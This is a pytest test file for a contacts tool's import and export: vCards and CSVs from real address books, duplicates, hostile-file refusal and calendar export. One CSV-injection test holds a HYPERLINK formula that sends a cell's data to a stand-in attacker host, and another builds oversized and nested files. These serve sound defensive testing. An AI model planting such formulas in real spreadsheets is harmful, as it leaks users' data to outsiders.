"""Contacts in and out: real exports from Outlook, Google, Apple and Android, hostile files, CSV
injection, and calendars that update rather than duplicate."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from popdesk.domain.enums import Sector
from popdesk.domain.text import fold
from popdesk.errors import ValidationError
from popdesk.interchange.csv_contacts import TRIGGERS, guess_mapping, read_csv
from popdesk.services import Services
from tests.builders import make_services, small_world

FIXTURES = Path(__file__).parents[1] / "fixtures" / "import"


@pytest.fixture
def services(tmp_path: Path):
    store, services = make_services(tmp_path / "s.db")
    yield services
    store.close(backup=False)


def imported(services: Services, name: str, **kw) -> dict[str, object]:
    plan = services.imports.read(FIXTURES / name, **kw)
    services.imports.commit(plan)
    return {c.name: c for c in services.partners.list_contacts()}


def numbers(contact) -> list[tuple[str | None, str]]:
    return [(p.label, p.number) for p in contact.phones]


def test_an_outlook_csv_in_windows_1252_arrives_with_its_fields(services: Services) -> None:
    plan = services.imports.read(FIXTURES / "outlook.csv")
    assert plan.kind == "Outlook CSV" and plan.summary() == "3 new, 0 already in popdesk, 0 refused"
    # a phone cell that is not a number does not cost the person: it is kept, marked unchecked
    warned = [r for r in plan.rows if r.reason]
    assert [(r.incoming.name, r.reason) for r in warned] == [
        ("Zoë Pritchard", "kept unchecked in the notes: phone 'not a number'")
    ]
    assert plan.new_organisations == [
        "Afon Housing Association",
        "Bwrdd Iechyd Glanafon",
        "Ynys Borough Council",
    ]
    services.imports.commit(plan)
    people = {c.name: c for c in services.partners.list_contacts()}
    sian = people["Siân Evans"]
    assert sian.organisation is not None and sian.organisation.name == "Ynys Borough Council"
    assert sian.job_title == "ASB officer"
    assert numbers(sian) == [("Work", "+442920180123"), ("Mobile", "+442920180456")]
    assert sian.emails == ("sian.evans@council.example.org",)
    assert sian.notes == (
        "Prefers calls after 10am.\nCovers Riverside and Afon ward.\nDepartment: Community Safety"
    )
    assert "Dr Priya Raman" in people
    zoe = people["Zoë Pritchard"]
    assert zoe.phones == () and zoe.notes == "Unchecked phone (Work): not a number"
    orgs = {o.name: o for o in services.partners.list_organisations()}
    assert orgs["Ynys Borough Council"].sector is Sector.UNKNOWN


def test_a_google_contacts_csv_with_several_values_in_a_cell(services: Services) -> None:
    people = imported(services, "google.csv")
    lukasz = people["Łukasz Nowak"]
    assert numbers(lukasz) == [
        ("Work", "+442920180789"),
        ("Work", "+442920180790"),
        ("Mobile", "+441614960555"),
    ]
    assert lukasz.job_title == "Tenancy manager" and lukasz.notes == "Met at the PACT meeting"
    assert people["Dafydd ap Gruffudd"].emails == ("dafydd@fire.example.org",)


def test_an_import_audits_each_contact_and_organisation_it_adds(services: Services) -> None:
    from popdesk.domain.enums import AuditAction, Sector

    people = imported(services, "google.csv")
    created = services.audit.entries(action=AuditAction.CREATE)
    contact_ids = {e.entity_id for e in created if e.summary == "Added a contact"}
    assert contact_ids == {c.id for c in people.values()}
    new_orgs = {o.id: o for o in services.partners.list_organisations()}
    assert new_orgs and all(o.sector is Sector.UNKNOWN and o.active for o in new_orgs.values())
    added = {e.entity_id for e in created if e.summary.startswith("Added organisation ")}
    assert added == set(new_orgs)
    (summary,) = [e.summary for e in services.audit.entries(action=AuditAction.IMPORT)]
    assert summary.startswith(f"Imported {len(people)} contacts and {len(new_orgs)} organisations")


def test_any_other_csv_goes_through_a_column_mapping(services: Services) -> None:
    with pytest.raises(ValidationError, match="does not recognise these columns"):
        services.imports.read(FIXTURES / "other-utf16.csv")
    table = read_csv(FIXTURES / "other-utf16.csv")  # UTF-16 with a BOM, semicolons
    mapping = guess_mapping(table.headers)
    assert mapping == {
        "name": "Full name",
        "organisation": "Agency",
        "job_title": "Role",
        "phone": "Tel",
        "email": "Email",
    }
    people = imported(services, "other-utf16.csv", mapping=mapping)
    aoife = people["Aoife Ó Súilleabháin"]
    assert aoife.organisation is not None and aoife.organisation.name == "Northgate Homes"
    assert numbers(aoife) == [(None, "+441184960113")]


@pytest.mark.parametrize(
    ("name", "who", "organisation", "title", "phones", "emails", "notes"),
    [
        (
            "outlook.vcf",
            "Siân Evans",
            "Ynys Borough Council",
            "ASB officer",
            [("Work", "+442920180123"), ("Mobile", "+442920180456")],
            ("sian.evans@council.example.org",),
            "Prefers calls after 10am.\nCovers Riverside and Afon ward.",
        ),
        (
            "apple.vcf",
            "Łukasz Nowak",
            "Afon Housing Association",
            "Tenancy manager",
            [("Duty phone", "+442920180789"), ("Mobile", "+441614960555")],
            ("lukasz.nowak@afon.example.org",),
            "Chairs the tenants' panel. Best reached through the duty phone, which is staffed "
            "9 to 5.",
        ),
        (
            "google.vcf",
            "Dafydd ap Gruffudd",
            "Glanafon Fire and Rescue",
            "Station manager",
            [("Work", "+441134960778")],
            ("dafydd@fire.example.org",),
            None,
        ),
        (
            "android.vcf",
            "Aoife Ó Súilleabháin",
            "Northgate Homes",
            None,
            [("Mobile", "+441184960113"), ("Work", "+441184960114")],
            ("aoife@northgate.example.org",),
            None,
        ),
        (
            "v4.vcf",
            "Gwenllïan Hughes",
            "Glanafon Women's Aid",
            "Chief officer",
            [("Work", "+442920180611")],
            ("gwen@womensaid.example.org",),
            "Safeguarding lead for the borough",
        ),
    ],
)
def test_vcards_as_real_clients_write_them(
    services: Services, name, who, organisation, title, phones, emails, notes
) -> None:
    contact = imported(services, name)[who]
    assert contact.organisation is not None and contact.organisation.name == organisation
    assert contact.job_title == title
    assert numbers(contact) == phones
    assert contact.emails == emails
    assert contact.notes == notes


EXPORTS = FIXTURES / "exports"  # written to the shapes real address books export


def test_every_person_of_real_address_book_exports_arrives(services: Services) -> None:
    """Android 2.1 with photos and quoted-printable names, an iPhone card, Lotus Notes,
    Outlook 2003 and 2007, BlackBerry, Evolution, Thunderbird, RFC 6350's example, and an
    Outlook CSV of placeholders and American numbers: no one is refused over a part popdesk
    does not keep or over one phone number."""
    for path in sorted(EXPORTS.iterdir()):
        plan = services.imports.read(path)
        assert plan.count("invalid") == 0, (path.name, [r.reason for r in plan.rows])
        services.imports.commit(plan)
    people = {c.name: c for c in services.partners.list_contacts()}
    assert sorted(people) == [
        "Alun Lewis",  # Outlook 2007: a photo whose base64 is cut short, a US number too long
        "Anwen Bowen",  # Outlook CSV
        "Bethan Hughes",  # Outlook 2003: a "BusinessPhone" placeholder, a photo, QP label
        "Bev Morgan",  # Android: a label of the user's own
        "Carlos Mendes",  # Outlook CSV: American numbers written without +1
        "Chidi Okafor",  # iPhone: item1.TEL with its label, a photo
        "Ciara Ó Conchúir",  # Android: QP name, QP note with a soft break, a photo
        "Eleri Roberts",  # BlackBerry: base64 lines not indented, ended by a blank line
        "Huw Jenkins",  # Thunderbird: lower-case, VERSION last
        "Imran Khan",  # Android: a photo whose base64 is broken
        "Megan Reilly",  # Outlook CSV: a "BusinessPhone" placeholder
        "Megan Thomas",  # Evolution: LOGO and a broken KEY, folded with a tab
        "Ms Rhiannon Price",  # Lotus Notes: an AGENT card inside, a line that is no property
        "Owain Price",  # Android: a QP organisation broken over two lines
        "Sioned Davies",  # Android: a mobile number the phone library deems invalid
        "Tunde Adeyemi",  # Android: an American number with +1
        "Yusuf Ahmed",  # BlackBerry: a SOUND
        "Élodie Tremblay",  # RFC 6350: data: URI photo, tel: URIs
    ]
    assert numbers(people["Chidi Okafor"]) == [
        ("Mobile", "+442920180455"),
        ("US office", "+14155550132"),
    ]
    assert numbers(people["Bev Morgan"]) == [("Duty phone", "+442920180103")]
    assert numbers(people["Tunde Adeyemi"]) == [
        ("Mobile", "+12125550147"),
        ("Home", "+441134960102"),
    ]
    ciara = people["Ciara Ó Conchúir"]
    assert ciara.organisation is not None and ciara.organisation.name == "Northgate Homes"
    assert ciara.notes == (
        "Covers the estates north of the river; prefers a text before a call.\nAway on Fridays."
    )
    owain = people["Owain Price"]
    assert owain.organisation is not None
    assert owain.organisation.name == "Glanafon Community Safety Partnership"
    # a number that cannot be checked is kept as written, marked unchecked, never the person
    bethan = people["Bethan Hughes"]
    assert numbers(bethan) == [("Work", "+442920180311")]
    assert bethan.notes == "Unchecked phone (Home): BusinessPhone"
    carlos = people["Carlos Mendes"]
    assert carlos.phones == () and carlos.notes == (
        "Seconded from New York.\n"
        "Unchecked phone (Work): (212) 555-0174\n"
        "Unchecked phone (Mobile): +1 (212) 204-34456"
    )
    assert people["Sioned Davies"].notes == "Unchecked phone (Mobile): 07700 900461"
    rhiannon = people["Ms Rhiannon Price"]
    assert rhiannon.notes == "Runs the Friday night project."
    assert [p.number for p in rhiannon.phones] == ["+442920180977", "+442920180978"]
    assert "Gareth Morgan" not in people  # the card inside her card is not a contact of its own


def test_the_preview_says_what_was_kept_unchecked(services: Services) -> None:
    plan = services.imports.read(EXPORTS / "outlook-us.csv")
    assert [(r.incoming.name, r.status, r.reason) for r in plan.rows] == [
        ("Megan Reilly", "new", "kept unchecked in the notes: phone 'BusinessPhone'"),
        (
            "Carlos Mendes",
            "new",
            "kept unchecked in the notes: phone '(212) 555-0174', phone '+1 (212) 204-34456'",
        ),
        ("Anwen Bowen", "new", None),
    ]


def test_a_card_that_cannot_be_read_is_refused_alone(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "four.vcf"
    path.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ceri Lloyd\r\nTEL:020 7946 0812\r\nEND:VCARD\r\n"
        # a line that cannot be read costs that line, not the person
        'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dai Bevan\r\nTEL;TYPE="work:029 2018 0999\r\n'
        "EMAIL:dai@example.org\r\nEND:VCARD\r\n"
        # a name that cannot be read leaves no one to import
        "BEGIN:VCARD\r\nVERSION:2.1\r\nFN;CHARSET=nonesuch;ENCODING=QUOTED-PRINTABLE:=C3=93\r\n"
        "TEL:020 7946 0814\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Nia Rees\r\nEMAIL:nia@example.org\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Cut Short\r\nTEL:020 7946 0813\r\n",
        encoding="utf-8",
    )
    plan = services.imports.read(path)
    assert plan.summary() == "3 new, 0 already in popdesk, 2 refused"
    said = [(r.incoming.line, r.status, r.incoming.name, r.reason) for r in plan.rows if r.reason]
    assert said == [
        (2, "new", "Dai Bevan", 'left out, cannot be read: TEL;TYPE="work:029 2018 0999'),
        (
            3,
            "invalid",
            "=C3=93",
            "this card cannot be read (LookupError: unknown encoding: nonesuch)",
        ),
        (5, "invalid", "Cut Short", "the card is cut short (the file ends before its END:VCARD)"),
    ]
    services.imports.commit(plan)
    people = {c.name: c for c in services.partners.list_contacts()}
    assert sorted(people) == ["Ceri Lloyd", "Dai Bevan", "Nia Rees"]
    assert people["Dai Bevan"].emails == ("dai@example.org",)


def test_a_vcard_round_trip_keeps_the_preferred_channel_and_the_review_date(
    services: Services, tmp_path: Path
) -> None:
    services.partners.create_contact(
        name="Siân Evans",
        phones=["029 2018 0123"],
        preferred_channel="phone",
        review_due=dt.date(2027, 3, 14),
    )
    services.partners.create_contact(name="Ceri Lloyd", emails=["ceri@example.org"])
    out = services.contact_exports.contacts(tmp_path / "contacts.vcf", format="vcard")
    assert "X-POPDESK-PREFERRED:phone" in out.read_text(encoding="utf-8")
    again_store, again = make_services(tmp_path / "other.db")
    try:
        again.imports.commit(again.imports.read(out))
        people = {c.name: c for c in again.partners.list_contacts()}
        sian, ceri = people["Siân Evans"], people["Ceri Lloyd"]
        assert sian.preferred_channel is not None and sian.preferred_channel.value == "phone"
        assert sian.review_due == dt.date(2027, 3, 14)
        assert ceri.preferred_channel is None
    finally:
        again_store.close(backup=False)


def test_duplicates_are_found_by_email_phone_or_name_and_organisation(
    services: Services, tmp_path: Path
) -> None:
    small_world(services)  # Siân Evans, 029 2018 0123, at Ynys Borough Council
    plan = services.imports.read(FIXTURES / "outlook.vcf")
    assert [(r.status, r.reason) for r in plan.rows] == [
        ("duplicate", "same email as Siân Evans (Ynys Borough Council)")
    ]
    same_name = tmp_path / "same.csv"
    same_name.write_text(
        "Name,Organisation,Phones,Emails\n"
        "SIAN EVANS,ynys borough council,,\n"
        "Ceri Lloyd,,020 7946 0812,\n"
        "Ceri Lloyd (again),,020 7946 0812,\n",
        encoding="utf-8",
    )
    rows = services.imports.read(same_name).rows
    assert [r.status for r in rows] == ["duplicate", "new", "duplicate"]
    assert rows[0].reason == "same name and organisation as Siân Evans (Ynys Borough Council)"
    assert rows[2].reason == "same phone number as an earlier entry in this file (3)"


def test_an_import_is_all_or_nothing(services: Services, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = services.imports.read(FIXTURES / "google.csv")
    from popdesk.services import contact_import

    monkeypatch.setattr(contact_import, "FLUSH_EVERY", 1)  # a batch a contact
    real = contact_import._Batch.write
    calls: list[int] = []

    def failing(self, s):  # type: ignore[no-untyped-def]
        calls.append(len(self.contacts))
        if len(calls) == 3:
            raise OSError("the disk went away")
        return real(self, s)

    monkeypatch.setattr(contact_import._Batch, "write", failing)
    with pytest.raises(OSError):
        services.imports.commit(plan)
    # the new organisations, then the first contact, were written, then all of it undone
    assert calls == [0, 1, 1]
    assert services.partners.list_contacts() == []
    assert services.partners.list_organisations() == []


def hostile(tmp_path: Path) -> dict[str, Path]:
    nested = tmp_path / "nested.vcf"
    nested.write_text("BEGIN:VCARD\r\n" * 20_000 + "END:VCARD\r\n" * 20_000, encoding="utf-8")
    huge = tmp_path / "huge.vcf"
    with huge.open("wb") as handle:  # 200 MB, sparse: no need to write it all
        handle.truncate(200 * 1024 * 1024)
    png = tmp_path / "photo.vcf"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    junk = tmp_path / "junk.csv"
    junk.write_bytes(bytes((n * 37 + 11) % 256 for n in range(5000)))
    lying = tmp_path / "lying.csv"
    lying.write_bytes(b"\xff\xfe" + b"N\x00a\x00\x00\xd8")  # a UTF-16 BOM, then a broken pair
    return {"nested": nested, "huge": huge, "png": png, "junk": junk, "lying": lying}


@pytest.mark.parametrize(
    ("case", "said"),
    [
        ("nested", "nested thousands deep"),
        ("huge", "is 210 MB; popdesk takes a vCard files up to 20 MB"),
        ("png", "is a PNG image, not a vCard file"),
        ("junk", "binary data"),
        ("lying", "says it is UTF-16 but is not"),
    ],
)
def test_hostile_files_are_refused_with_one_message_and_nothing_changes(
    services: Services, tmp_path: Path, case: str, said: str
) -> None:
    small_world(services)
    before = (services.partners.list_contacts(), services.audit.count())
    with pytest.raises(ValidationError) as refused:
        services.imports.read(hostile(tmp_path)[case])
    assert said in refused.value.message
    assert (services.partners.list_contacts(), services.audit.count()) == before


def test_no_exported_csv_cell_starts_a_formula_and_a_formula_note_round_trips(
    services: Services, tmp_path: Path
) -> None:
    world = small_world(services)
    services.partners.update_contact(
        world["sian"], notes='=HYPERLINK("http://evil.example/?"&A1,"Click")'
    )
    services.partners.update_contact(world["lukasz"], job_title="-Tenancy manager", notes="@once")
    out = services.contact_exports.contacts(tmp_path / "contacts.csv", format="csv")
    import csv

    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    again_store, again = make_services(tmp_path / "other.db")
    again.imports.commit(again.imports.read(out))
    notes = {c.name: (c.notes, c.job_title) for c in again.partners.list_contacts()}
    assert notes["Siân Evans"][0] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert notes["Łukasz Nowak"] == ("@once", "-Tenancy manager")
    again_store.close(backup=False)


NAMES = st.text(
    alphabet=st.characters(codec="utf-8", categories=("L", "M", "N", "P", "Zs")),
    min_size=1,
    max_size=40,
).filter(lambda s: s.strip() and s.strip() == s and "," not in s)
NOTES = st.one_of(
    st.none(),
    st.text(
        alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
        min_size=1,
        max_size=80,
    ).filter(lambda s: s.strip() == s and s),
    st.sampled_from(
        ["=1+1", "+44 wrong", "-minus", "@at", "'quoted", "''twice", '=HYPERLINK("x")']
    ),
)
PHONES = st.lists(
    st.tuples(
        st.sampled_from([None, "Office", "Mobile", "Duty phone"]),
        st.integers(0, 999).map(lambda n: f"029 2018 {n:04d}"),
    ),
    max_size=3,
    unique_by=lambda p: p[1],
)


@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    people=st.lists(
        st.tuples(NAMES, st.one_of(st.none(), NAMES), NOTES, PHONES, st.booleans()),
        min_size=1,
        max_size=4,
        unique_by=lambda p: fold(p[0]),  # the same name at one organisation is a duplicate
    )
)
def test_export_then_import_gives_the_same_contacts(tmp_path_factory, people) -> None:
    folder = tmp_path_factory.mktemp("roundtrip")
    source_store, source = make_services(folder / "a.db")
    org = source.partners.create_organisation(name="Ynys Borough Council", sector="health")
    used: set[str] = set()
    for n, (name, title, notes, phones, with_org) in enumerate(people):
        phones = [p for p in phones if p[1] not in used]
        used.update(p[1] for p in phones)
        source.partners.create_contact(
            name=name,
            job_title=title,
            notes=notes,
            phones=phones,
            emails=[f"person{n}@example.org"],
            organisation_id=org.id if with_org else None,
            preferred_channel="email" if n % 2 else None,
            review_due=dt.date(2027, 1, 1 + n),
        )
    out = source.contact_exports.contacts(folder / "out.csv", format="csv")
    target_store, target = make_services(folder / "b.db")
    target.imports.commit(target.imports.read(out))

    def shape(services: Services) -> list[tuple[object, ...]]:
        return sorted(
            (
                c.name,
                c.organisation.name if c.organisation else None,
                c.job_title,
                tuple((p.label, p.number) for p in c.phones),
                c.emails,
                c.notes,
                c.preferred_channel,
                c.lawful_basis,
                c.review_due,
            )
            for c in services.partners.list_contacts()
        )

    try:
        assert shape(target) == shape(source)
    finally:
        source_store.close(backup=False)
        target_store.close(backup=False)


def test_the_calendar_parses_and_a_second_export_keeps_the_same_uids(
    tmp_path: Path,
) -> None:
    from icalendar import Calendar

    from popdesk.demo.small import DemoService

    store, services = make_services(tmp_path / "s.db")
    DemoService(store.sessions).fill()
    first = services.contact_exports.calendar(tmp_path / "one.ics")
    second = services.contact_exports.calendar(tmp_path / "two.ics")

    def events(path: Path) -> dict[str, object]:
        cal = Calendar.from_ical(path.read_bytes())
        return {str(e["UID"]): e for e in cal.walk("VEVENT")}

    one, two = events(first), events(second)
    assert one.keys() == two.keys() and len(one) > 20
    meetings = [e for uid, e in one.items() if uid.startswith("meeting-")]
    dues = [e for uid, e in one.items() if uid.startswith("action-")]
    assert meetings and dues
    assert all(str(e["SUMMARY"]).endswith(" meeting") for e in meetings)
    assert all(str(e["SUMMARY"]).startswith("Due: ") for e in dues)
    assert all(isinstance(e.decoded("DTSTART"), dt.date) for e in dues)
    store.close(backup=False)
